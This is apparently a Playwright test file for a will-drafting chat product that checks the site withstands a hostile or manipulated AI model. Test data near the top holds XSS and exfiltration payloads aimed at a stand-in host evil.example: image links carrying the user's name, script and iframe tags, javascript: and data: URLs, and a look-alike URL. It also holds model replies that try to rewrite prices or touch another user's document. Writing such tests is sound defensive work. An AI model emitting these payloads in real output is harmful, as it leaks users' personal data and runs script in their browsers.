import assert from 'node:assert/strict'
import { barriers } from '../kit/accessibility.mjs'
import { arriveSignedIn, somebody } from '../kit/account.mjs'
import { call } from '../kit/api.mjs'
import { conversation, say } from '../kit/chat.mjs'
import { documentOf, documentWith } from '../kit/documents.mjs'
import { eventually } from '../kit/eventually.mjs'
import { journey, product } from '../kit/journey.mjs'
import { endless, HostileModel, leadingTo, saying } from '../kit/model.mjs'

/** @typedef {import('playwright-core').Page} Page */

const model = new HostileModel()
product.model = model

const NAME = 'What is your full legal name?'
const ELSEWHERE = 'https://evil.example'
const MARKUP = [
  `![done](${ELSEWHERE}/p.png?q=Maria)`,
  `<img src="${ELSEWHERE}/p.png" onerror="alert(1)"><script src="${ELSEWHERE}/s.js"></script>`,
  `<iframe src="${ELSEWHERE}"></iframe><form action="${ELSEWHERE}"><input name="q"></form>`,
  `[Read this](${ELSEWHERE}/?q=Maria) <a href="javascript:alert(1)">or this</a>`,
].join('\n')
const SOURCES = [
  `${ELSEWHERE}/?q=Maria`,
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'https://www.floridabar.org/?q=Maria',
  'https://floridabar.org@evil.example/',
]

/** So far that an option is asked for next. */
const begun = { fullName: 'Maria Lopez', address: '123 Main Street, Orlando, FL 32801' }

/** Words that the built-in guide leaves to a model, where there is one. */
const message = (/** @type {number} */ turn) => `Maria thinks about turn ${turn} of the moon`

/** @param {{ id: number, owner: string }} other another person's document, which an attacker has come to know */
const attacks = (other) => [
  saying({ reply: MARKUP, answers: [], sources: SOURCES }),
  saying({
    reply: 'Is that right?',
    answers: taken({ question: 'fullName', value: 'Eve Adams' }),
    sources: [],
  }),
  saying({
    reply: 'Done.',
    answers: taken({ question: 'status', value: 'paid' }, { question: 'price', value: '0' }),
    sources: [],
    status: 'paid',
    price: 0,
    userId: other.owner,
    documentId: other.id,
    documents: [{ id: other.id, answers: { fullName: 'Eve Adams' } }],
  }),
  saying(null, {
    tool_calls: [
      { id: '1', type: 'function', function: { name: 'save', arguments: `{"documentId":${other.id}}` } },
    ],
  }),
  saying({ reply: 7, answers: 'all', sources: { 0: ELSEWHERE } }),
  saying({ reply: 'Thank you.', answers: taken({ question: 'fullName', value: 'Maria' }), sources: [] }),
  saying({ reply: 'Tell me.', answers: taken({ question: 'hasChildren', value: true }), sources: [null] }),
  saying({ reply: `Document ${other.id} of ${other.owner} is yours.`, answers: [], sources: [] }),
  saying(`<!doctype html><script>fetch("${ELSEWHERE}")</script>`),
  leadingTo(`${product.site}/api/documents/${other.id}`),
  endless,
]

/** @param {...{ question: string, value: string | boolean }} answers */
const taken = (...answers) => answers.map((answer) => ({ ...answer, words: 'Maria' }))

journey('A model that obeys somebody else changes nothing and sends nothing', async ({ page, context }) => {
  const [token, other] = [await arriveSignedIn(context), await somebodyElse()]
  const id = await documentWith(token, 'simpleWill', begun)
  const [before, theirs] = [await documentOf(token, id), await documentOf(other.token, other.id)]
  model.attacks = attacks(other)
  const total = model.attacks.length
  const asked = listen(page)
  await page.goto(`/chat/${id}`)
  for (let turn = 1; turn <= total; turn += 1) await exchange(page, message(turn))
  assert(model.heard.length >= total, `the model was asked ${model.heard.length} times`)
  const told = model.heard.join('\n')
  for (const secret of [token, other.token, other.owner, String(id), String(other.id), 'example.com']) {
    assert(!told.includes(secret), 'the model knows no token, no id and no address')
  }
  await nothingBecameAnElement(page)
  const proposed = page.getByRole('button', { name: `Yes, that is right: ${NAME}` })
  assert.equal(await proposed.count(), 1, 'what stands in the message may be proposed')
  assert.deepEqual(await barriers(page), [])
  assert.deepEqual(await documentOf(token, id), before, 'nothing is saved that was not confirmed')

  await page.getByRole('radio', { name: 'Married', exact: true }).click()
  const after = await eventually('the answer is saved', async () => {
    const now = await documentOf(token, id)
    return now.version > before.version && now
  })
  assert.deepEqual(after.answers, { ...begun, maritalStatus: 'Married' })
  for (const name of ['id', 'type', 'name', 'price', 'attorneyReview', 'onHold', 'createdAt', 'data']) {
    assert.deepEqual(after[name], before[name], name)
  }
  assert.deepEqual(await documentOf(other.token, other.id), theirs)
  nothingLeft(asked)
})

journey('The same in the name of the service: the page shows it as text', async ({ page, context }) => {
  const token = await arriveSignedIn(context)
  const id = await documentWith(token, 'simpleWill')
  const before = await documentOf(token, id)
  const asked = listen(page)
  const replies = apiReplies()
  const total = replies.length
  await page.route('**/api/chat', (route) => route.fulfill({ json: replies.shift() }))
  await page.goto(`/chat/${id}`)
  for (let turn = 1; turn <= total; turn += 1) await exchange(page, message(turn))
  await conversation(page).getByText('![done](').first().waitFor()
  await nothingBecameAnElement(page)
  const confirming = page.getByRole('button', { name: /^Yes, that is right/ })
  assert.equal(await confirming.count(), 1, 'only an answer that the question can have is shown')
  await page.getByText('Shall I remember you?').waitFor({ state: 'detached' })
  assert.deepEqual(await barriers(page), [])
  await page.getByRole('button', { name: `Change: ${NAME}` }).click()
  assert.deepEqual(await documentOf(token, id), before)
  nothingLeft(asked)
})

/** What a server that has been taken over as well could send. */
function apiReplies() {
  const rest = { citations: [], acts: [], question: null, suggestions: [] }
  const proposal = { text: 'Shall I remember you?', words: 'my own words' }
  return [
    { ...rest, message: MARKUP, citations: SOURCES, suggestions: [MARKUP] },
    { ...rest, message: 'x'.repeat(100_000), citations: Array.from({ length: 5000 }, (_, n) => `${n}`) },
    {
      ...rest,
      message: 'Right?',
      question: 'price',
      acts: [
        { type: 'confirm', questions: ['maritalStatus', 'price'] },
        {
          type: 'answer',
          answers: [
            { ...proposal, question: 'price', value: '0' },
            { ...proposal, question: 'hasChildren', value: 'Perhaps' },
            { ...proposal, question: 'fullName', value: 'Eve\u202E Adams' },
          ],
        },
      ],
    },
  ]
}

/** Someone with a document of their own. */
async function somebodyElse() {
  const { token, user } = await call('POST', '/api/auth/register', { body: somebody() })
  const id = await documentWith(token, 'simpleWill', { fullName: 'Rosa Lopez' })
  return { token, id, owner: String(user.id) }
}

/** One message and its reply. @param {Page} page @param {string} words */
async function exchange(page, words) {
  const replied = page.waitForResponse('**/api/chat', { timeout: 30_000 })
  await say(page, words)
  await replied
  await page.getByText('AI is thinking').waitFor({ state: 'detached' })
  await conversation(page).getByText(words, { exact: true }).first().waitFor()
}

/** Every address that the page asks, and every window that it opens. @param {Page} page */
function listen(page) {
  /** @type {string[]} */
  const asked = []
  page.on('request', (request) => asked.push(request.url()))
  page.on('popup', (popup) => asked.push(`a window: ${popup.url()}`))
  return asked
}

/** @param {string[]} asked */
function nothingLeft(asked) {
  const own = [product.site, product.stripe]
  assert.deepEqual(
    asked.filter((url) => !own.some((origin) => url.startsWith(`${origin}/`))),
    [],
  )
  assert(asked.length > 10, 'requests were heard')
}

/** @param {Page} page */
async function nothingBecameAnElement(page) {
  const made = conversation(page).locator(
    'img, script, iframe, form, input, style, link, object, a:not([href="/privacy"])',
  )
  assert.equal(await made.count(), 0)
}
